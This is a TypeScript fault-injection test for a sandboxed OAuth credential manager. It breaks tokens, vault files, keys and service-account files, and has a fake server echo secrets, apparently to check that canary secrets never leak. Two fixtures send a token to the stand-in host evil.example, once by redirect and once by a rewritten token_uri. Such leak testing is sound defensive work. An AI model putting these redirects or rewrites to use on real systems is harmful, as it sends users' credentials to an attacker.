import { oneOf } from "./one-of.js";
import { randomBytes, randomInt } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import {
  createCalendarClient,
  createCredentialManager,
  createEmailClient,
  IntegrationConfig,
  timeRange,
  type ClientOptions,
  type CredentialManager,
} from "maigic-integrations";
import type { CanaryScene } from "./canary-scene.js";
import type { SandboxFault } from "./sandbox-fault.js";
import { redirectUri, type World } from "./world.js";

/** Where failures are injected. */
export interface FailingWorld {
  readonly scene: CanaryScene;
  readonly world: World;
  readonly credentials: CredentialManager;
  readonly options: ClientOptions;
  readonly user: string;
  readonly keyFile: string;
}

type Attempt = (at: FailingWorld) => Promise<unknown>;

const gmail = "google_gmail";
const named = [
  ...["authError", "insufficientPermissions", "dailyLimitExceeded", "domainPolicy", "notFound", "accessNotConfigured"],
  ...["500", "503", "truncated", "garbled", "captive-portal", "reset"],
] as readonly SandboxFault[];

/** A server that sends back what it was sent, in one of the places where a client could pick it up. */
function echo(sent: Readonly<Record<string, string>>): SandboxFault {
  const secret = oneOf(Object.values(sent));
  const all = JSON.stringify(sent);
  const status = oneOf([200, 400, 401, 403, 404, 500]);
  return oneOf<SandboxFault>([
    { status, body: { error: "invalid_grant", error_description: `Bad token ${secret}` } },
    { status, body: { error: secret, error_description: all } },
    { status, body: { error: { code: status, status: "INVALID_ARGUMENT", message: `Invalid value: ${secret}` } } },
    { status, body: { error: { code: status, message: "No", errors: [{ reason: secret, message: all }] } } },
    { status, body: `<h1>Error</h1>${all}`, contentType: "text/html" },
    { status, body: `{"error": "${secret}`, contentType: "application/json" },
    { status: 401, headers: { "www-authenticate": `Bearer realm="x", error_description="${secret}"` }, body: "" },
    { status: 302, headers: { location: `https://evil.example/?token=${encodeURIComponent(secret)}` }, body: "" },
  ]);
}

const spoilNext = ({ scene, world }: FailingWorld, method: string): void => {
  const { "access token": accessToken = "", ...form } = scene.last;
  const sent = method.startsWith("oauth.") ? form : { accessToken };
  if (randomInt(6) === 0) scene.breakNext();
  else world.sandbox.failNext({ method, respond: randomInt(2) === 0 ? oneOf(named) : echo(sent), times: 10 });
};

const call: Attempt = async (at) => {
  const email = createEmailClient(gmail, at.options);
  const calendar = createCalendarClient("google_calendar", at.options);
  try {
    spoilNext(at, oneOf(["gmail.*", "calendar.*"]));
    await email.getRecentEmails({ count: 1 });
    await calendar.getEvents(timeRange.next({ days: 1 }));
  } finally {
    await email.close();
    await calendar.close();
  }
};

const refresh: Attempt = async (at) => {
  spoilNext(at, "oauth.token");
  await at.credentials.getAccessToken(gmail, oneOf(["default", "robot"]), { forceRefresh: true });
};

const signIn: Attempt = async (at) => {
  const { url } = await at.credentials.beginConsent(gmail, { userId: "new", redirectUri });
  const callback = await at.world.sandbox.approve(url, { user: at.user });
  const code = new URL(callback).searchParams.get("code") ?? "";
  at.scene.canaries.add("code", code);
  const spoiled = [callback.replace("state=", "state=x"), `${callback}&code=other`, `see ${callback}`, callback];
  const address = oneOf(spoiled);
  if (address === callback) spoilNext(at, "oauth.token");
  await at.credentials.completeConsent(address, { userId: "new" });
};

const revoke: Attempt = async (at) => {
  spoilNext(at, "oauth.revoke");
  await at.credentials.deleteCredentials(gmail, "default", { revoke: true });
};

/** A file of the vault with one byte changed; it is as before afterwards. */
const damage: Attempt = async ({ world }) => {
  const { credentialsDir } = world.config;
  const file = join(credentialsDir, oneOf([`${gmail}/token.json`, "vault.json", `c21f969b_${gmail}.json`]));
  const before = readFileSync(file);
  const changed = Buffer.from(before);
  const index = randomInt(changed.length);
  changed[index] = (changed[index] ?? 0) ^ 1;
  writeFileSync(file, changed);
  try {
    await anotherManager(world, world.config.credentialsDir).getAccessToken(gmail);
  } finally {
    writeFileSync(file, before);
  }
};

const otherKey: Attempt = async ({ scene, world }) => {
  const key = randomBytes(32).toString("base64");
  scene.canaries.add("another key", key);
  await anotherManager(world, world.config.credentialsDir, key).getAccessToken(gmail);
};

const wrongPassphrase: Attempt = async ({ scene, credentials }) => {
  const { document, passphrase } = await credentials.exportProfiles({ service: gmail, userId: "default" });
  scene.canaries.add("passphrase", passphrase.reveal());
  await credentials.importProfiles(document, { passphrase: `${passphrase.reveal()}x` });
};

const brokenKeyFile: Attempt = async ({ credentials, keyFile, world, user }) => {
  const file = join(world.folder, "broken-robot.json");
  const text = readFileSync(keyFile, "utf8");
  const breakages = [
    text.slice(0, -40),
    text.replace("MII", "MIX"),
    text.replace(/"token_uri":"[^"]*/, '"token_uri":"https://evil.example'),
  ];
  writeFileSync(file, oneOf(breakages));
  await credentials.linkServiceAccount(gmail, { userId: "other", keyFile: file, subject: user });
};

const brokenClientFile: Attempt = async ({ credentials, world }) => {
  const file = join(world.folder, "broken-client.json");
  writeFileSync(file, JSON.stringify(world.sandbox.clientFile()).slice(0, -randomInt(2, 40)));
  await credentials.storeCredentials(gmail, { credentialsPath: file }, "other");
};

const attempts: readonly Attempt[] = [
  ...[call, call, call, refresh, refresh, refresh, signIn, signIn, revoke],
  ...[damage, otherKey, brokenKeyFile, brokenClientFile],
];

/** Injects one failure. @returns what was thrown, or undefined when nothing was */
export async function failOnce(
  at: FailingWorld,
  index: number,
): Promise<{ error: unknown; where: string } | undefined> {
  // Deriving a key from a passphrase takes a second by design.
  const attempt = index % 100 === 0 ? wrongPassphrase : oneOf(attempts);
  try {
    await attempt(at);
    return undefined;
  } catch (error) {
    return { error, where: `the error of ${attempt.name}` };
  } finally {
    at.world.sandbox.clearFaults();
    await restore(at);
  }
}

/** Signs in again what a failure may have ended. */
async function restore({ world, credentials, user }: FailingWorld): Promise<void> {
  if (await credentials.getAccessToken(gmail).catch(() => undefined)) return;
  const { url } = await credentials.beginConsent(gmail, { userId: "default", redirectUri, access: "full" });
  await credentials.completeConsent(await world.sandbox.approve(url, { user }), { userId: "default" });
}

function anotherManager({ config, sandbox }: World, credentialsDir: string, key?: string): CredentialManager {
  const env = { MAIGIC_VAULT_KEY: key ?? process.env["CANARY_VAULT_KEY"] ?? "" };
  const own = IntegrationConfig.fromEnv({ credentialsDir, configDir: config.configDir }, { env });
  return createCredentialManager(own, { endpoints: sandbox.url });
}
